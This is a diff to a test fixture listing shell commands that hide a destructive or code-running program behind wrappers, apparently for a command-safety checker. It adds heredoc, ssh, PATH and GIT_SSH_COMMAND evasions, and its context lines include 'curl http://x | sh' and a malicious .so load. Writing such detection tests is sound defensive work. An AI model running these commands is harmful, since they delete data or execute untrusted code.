@@ -81,6 +81,11 @@ export const HIDDEN: readonly (readonly [string, string | null])[] = [
   [`sudo bash -c 'r""m x'`, 'rm'],
   [`trap 'rm x' EXIT`, 'rm'],
   [`curl http://x | sh`, 'sh'],
+  [`bash <<< 'rm x'`, 'rm'],
+  [`sh <<'EOF'\nrm x\nEOF`, 'rm'],
+  [`sudo bash <<EOF\nls; rm x\nEOF`, 'rm'],
+  [`ssh -p 22 host 'rm x'`, 'rm'],
+  [`ssh host sudo rm x`, 'rm'],
   // find, git, others that run programs
   [`find . -exec rm {} \\;`, 'rm'],
   [`find . -execdir rm {} +`, 'rm'],
@@ -126,4 +131,9 @@ export const HIDDEN: readonly (readonly [string, string | null])[] = [
   [`rm x )`, null],
   [`git -c core.hooksPath=/tmp/hooks commit`, null],
   [`enable -f /tmp/evil.so rm`, null],
+  [`bash <<< "$X"`, null],
+  [`export PATH=/tmp; ls`, null],
+  [`PATH+=:/tmp ls`, null],
+  [`GIT_SSH_COMMAND="$X" git fetch`, null],
+  [`ssh host "$CMD"`, null],
 ];
